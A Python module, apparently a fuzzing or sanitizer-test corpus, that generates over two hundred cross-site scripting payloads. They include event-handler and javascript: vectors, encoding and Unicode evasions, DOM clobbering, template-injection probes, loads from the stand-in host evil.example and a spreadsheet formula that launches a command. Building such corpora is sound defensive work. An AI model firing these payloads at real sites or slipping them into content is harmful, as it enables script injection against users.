"""Two hundred and more texts that try to run as a script, in every way that a page may be broken out of."""

from collections.abc import Iterator
from itertools import product

# What a payload would do if it ran.
RUN = "window.hit=1"
_BREAKS = (
    "",
    "'",
    '"',
    "`",
    "'>",
    '">',
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "&#34;>",
    "\\'>",
    "\u2028",
)
_BODIES = (
    "<script>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onpageshow={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<marquee onstart={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
)
_OTHERS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}//",
    "java\tscript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "{{{{ 7*7 }}}}",
    "{{% print(7*7) %}}",
    "${{{run}}}",
    "#{{{run}}}",
    "' onfocus={run} autofocus x='",
    '" onfocus={run} autofocus x="',
    '" style="position:fixed;inset:0" onmouseover={run} x="',
    "<a href=javascript:{run}>click</a>",
    "<form action=javascript:{run}><button>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example)}}</style>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<svg><a xlink:href=javascript:{run}><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={run}>'>",
    "<x onclick={run} contenteditable>x",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\u202e<script>{run}</script>\u202c",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u0001<script>{run}</script>",
    "<a id=news><a id=live><form id=undo>",
    "<input name=csrf_token value=guessed>",
    "<img name=getElementById><img name=querySelector>",
    "=cmd|' /C calc'!A0",
)


def payloads() -> Iterator[str]:
    for start, body in product(_BREAKS, _BODIES):
        yield start + body.format(run=RUN)
    for other in _OTHERS:
        yield other.format(run=RUN)
